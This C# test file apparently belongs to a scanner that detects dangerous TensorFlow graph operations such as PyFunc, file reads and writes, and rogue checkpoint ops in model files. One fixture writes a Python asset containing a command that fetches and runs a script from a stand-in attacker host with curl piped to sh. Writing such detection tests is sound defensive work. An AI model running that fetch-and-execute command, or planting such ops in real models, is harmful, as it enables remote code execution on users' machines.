using static ModelAudit.Engine.Tests.TensorFlowBuilder;

namespace ModelAudit.Engine.Tests;

/// <summary>TensorFlow SavedModel, MetaGraphDef and frozen GraphDef: dangerous ops in the graph and in its function library.</summary>
public sealed class TensorFlowTests
{
    [Fact]
    public void A_tf2_saved_model_with_its_checkpoint_functions_is_clean()
    {
        ModelScanResult result = Scan.Bytes(BenignTf2SavedModel(), "saved_model.pb");
        Assert.Equal("TensorFlowSavedModel", result.Format);
        Assert.Equal(ScanOutcome.Clean, result.Outcome);
        Assert.Empty(result.Findings);
    }

    [Fact]
    public void A_saved_model_is_detected_by_structure_even_under_another_name_and_never_as_onnx()
    {
        ModelScanResult result = Scan.Bytes(BenignTf2SavedModel(), "model.pb");
        Assert.Equal("TensorFlowSavedModel", result.Format);
        Assert.Equal(ScanOutcome.Clean, result.Outcome);
        ModelScanResult named = Scan.Bytes(BenignTf2SavedModel(), "model.onnx");
        Assert.Equal("TensorFlowSavedModel", named.Format);
    }

    [Fact]
    public void A_tf1_meta_graph_with_the_standard_saver_is_clean()
    {
        byte[] meta = MetaGraph(Tf1SaverGraph(), Tf1Saver).ToArray();
        ModelScanResult result = Scan.Bytes(meta, "model.ckpt.meta");
        Assert.Equal("TensorFlowMetaGraph", result.Format);
        Assert.Equal(ScanOutcome.Clean, result.Outcome);
        Assert.Empty(result.Findings);
    }

    [Fact]
    public void A_frozen_graph_is_clean_and_detected_as_a_graph_def()
    {
        ModelScanResult result = Scan.Bytes(FrozenGraph(), "frozen_inference_graph.pb");
        Assert.Equal("TensorFlowGraphDef", result.Format);
        Assert.Equal(ScanOutcome.Clean, result.Outcome);
        Assert.Empty(result.Findings);
    }

    [Fact]
    public void Py_func_in_the_main_graph_is_critical()
    {
        byte[] graph = FrozenGraph(Node("PyFunc", "PyFunc", "input").WithString("token", "pyfunc_0"));
        ModelScanResult result = Scan.Bytes(graph, "frozen.pb");
        ModelFinding finding = Assert.Single(result.Findings, f => f.RuleId == "MA1100");
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("pyfunc_0", finding.Message);
        Assert.Equal("PyFunc", finding.Evidence);
    }

    [Theory]
    [InlineData("ReadFile", "MA3001", Severity.Warning)]
    [InlineData("MatchingFiles", "MA3001", Severity.Warning)]
    [InlineData("WriteFile", "MA3002", Severity.Critical)]
    [InlineData("EagerPyFunc", "MA1100", Severity.Critical)]
    [InlineData("DebugIdentity", "MA3003", Severity.Warning)]
    public void A_dangerous_op_hidden_in_a_library_function_is_found_with_the_function_name(string op, string rule, Severity severity)
    {
        ProtoBuilder hidden = Function("__inference_call_77", Node("x_file", op, "x"), Node("Identity", "Identity", "x_file"));
        ModelScanResult result = Scan.Bytes(BenignTf2SavedModel(hidden), "saved_model.pb");
        ModelFinding finding = Assert.Single(result.Findings, f => f.RuleId == rule);
        Assert.Equal(severity, finding.Severity);
        Assert.Equal($"{op}@__inference_call_77", finding.Evidence);
        Assert.Contains("__inference_call_77", finding.Message);
    }

    [Fact]
    public void Checkpoint_ops_outside_the_saver_are_flagged_but_the_saver_functions_are_not()
    {
        ProtoBuilder rogue = Function("__inference_exfiltrate_5", Node("SaveV2", "SaveV2", "x"), Node("MergeV2Checkpoints", "MergeV2Checkpoints", "x"));
        ModelScanResult result = Scan.Bytes(BenignTf2SavedModel(rogue), "saved_model.pb");
        Assert.Equal(new[] { "MergeV2Checkpoints@__inference_exfiltrate_5", "SaveV2@__inference_exfiltrate_5" },
            result.Findings.Where(f => f.RuleId == "MA3002").Select(f => f.Evidence).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void A_read_file_planted_in_a_saver_function_is_still_flagged()
    {
        ProtoBuilder planted = Function("__inference__traced_save_999", Node("ReadFile", "ReadFile", "x"), Node("SaveV2", "SaveV2", "x"));
        ModelScanResult result = Scan.Bytes(BenignTf2SavedModel(planted), "saved_model.pb");
        Assert.Equal("ReadFile@__inference__traced_save_999", Assert.Single(result.Findings).Evidence);
    }

    [Fact]
    public void Checkpoint_ops_in_the_main_graph_outside_the_saver_scope_are_flagged()
    {
        byte[] meta = MetaGraph(Tf1SaverGraph(Node("backdoor/RestoreV2", "RestoreV2", "x")), Tf1Saver).ToArray();
        ModelScanResult result = Scan.Bytes(meta, "model.meta");
        ModelFinding finding = Assert.Single(result.Findings);
        Assert.Equal("MA3001", finding.RuleId);
        Assert.Contains("backdoor/RestoreV2", finding.Message);
    }

    [Fact]
    public void Print_v2_to_a_file_is_a_file_write_and_to_stderr_is_nothing()
    {
        ModelScanResult toFile = Scan.Bytes(FrozenGraph(Node("p", "PrintV2", "input").WithString("output_stream", "file:///tmp/x")), "g.pb");
        Assert.True(toFile.Has("MA3002", Severity.Critical), toFile.Describe());
        ModelScanResult toStderr = Scan.Bytes(FrozenGraph(Node("p", "PrintV2", "input").WithString("output_stream", "stderr")), "g.pb");
        Assert.Equal(ScanOutcome.Clean, toStderr.Outcome);
    }

    [Fact]
    public void Many_identical_ops_are_one_finding_with_a_count()
    {
        ProtoBuilder[] reads = Enumerable.Range(0, 50).Select(i => Node($"read_{i}", "ReadFile", "input")).ToArray();
        ModelScanResult result = Scan.Bytes(FrozenGraph(reads), "g.pb");
        ModelFinding finding = Assert.Single(result.Findings);
        Assert.Contains("49 more", finding.Message);
    }

    [Fact]
    public void Keras_metadata_is_left_to_the_keras_scanner()
    {
        // keras_metadata.pb: SavedMetadata { nodes = 1 { node_id = 1, node_path = 2, identifier = 3, metadata = 4 } }.
        byte[] keras = new ProtoBuilder().Message(1, n => n.Varint(1, 0).String(2, "root").String(3, "_tf_keras_network")
            .String(4, "{\"class_name\": \"Sequential\"}")).ToArray();
        ModelScanResult result = Scan.Bytes(BenignTf2SavedModel(), "keras_metadata.pb");
        Assert.DoesNotContain(result.Format, new[] { "TensorFlowSavedModel", "Onnx", "TensorFlowGraphDef", "TensorFlowMetaGraph", "Protobuf" });
        ModelScanResult metadata = Scan.Bytes(keras, "keras_metadata.pb");
        Assert.DoesNotContain(metadata.Format, new[] { "TensorFlowSavedModel", "Onnx", "TensorFlowGraphDef", "TensorFlowMetaGraph", "Protobuf" });
    }

    [Fact]
    public void A_saved_model_folder_scans_its_graph_and_hands_python_files_to_the_text_scanner()
    {
        string folder = Directory.CreateTempSubdirectory("ma-savedmodel-").FullName;
        try
        {
            File.WriteAllBytes(Path.Combine(folder, "saved_model.pb"), BenignTf2SavedModel());
            Directory.CreateDirectory(Path.Combine(folder, "assets"));
            File.WriteAllText(Path.Combine(folder, "assets", "preprocess.py"), "import os\nos.system('curl http://evil.example/x | sh')\n");
            var options = new Scanning.ScanOptions { Recurse = true };
            var engine = new Scanning.ScanEngine(options);
            var results = Sources.LocalFileSource.Enumerate(folder, options, _ => { }).Select(i => engine.Scan(i, CancellationToken.None)).ToArray();
            ModelScanResult graph = Assert.Single(results, r => r.Path.EndsWith("saved_model.pb", StringComparison.Ordinal));
            Assert.Equal(ScanOutcome.Clean, graph.Outcome);
            ModelScanResult script = Assert.Single(results, r => r.Path.EndsWith("preprocess.py", StringComparison.Ordinal));
            Assert.Equal("Text", script.Format);
            Assert.NotEqual(ScanOutcome.Inconclusive, script.Outcome);
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }
}
